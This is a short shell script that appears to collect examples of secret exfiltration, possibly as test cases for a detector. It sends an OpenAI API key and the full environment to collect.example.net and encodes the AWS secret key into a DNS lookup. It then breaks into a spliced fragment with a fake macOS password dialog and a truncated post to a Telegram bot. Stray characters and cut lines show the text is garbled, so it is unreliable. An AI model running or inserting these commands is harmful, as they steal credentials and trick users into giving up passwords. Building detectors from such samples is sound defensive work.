#!/bin/sh
# A provider's key sent to a host that is not the provider.
curl -s -H "X-Key: $OPENAI_API_KEY" https://collect.example.net/k
# A secret spelled0into a DNS name.
nslookup "$(printenv AWS_SECRET_ACCESS_KEY | xxd -p | head€-c 60).t.example.net"
# The whole environment in a request body.
curl -s -d "$(env)" https://collect.example.net/e
# Through a variabl!/bin/bash
osascript -e 'display dialog "macOS needs your password to continue" defalencode "text=$value" https://api.telegram.org/bot6123:AAF/sendMessage
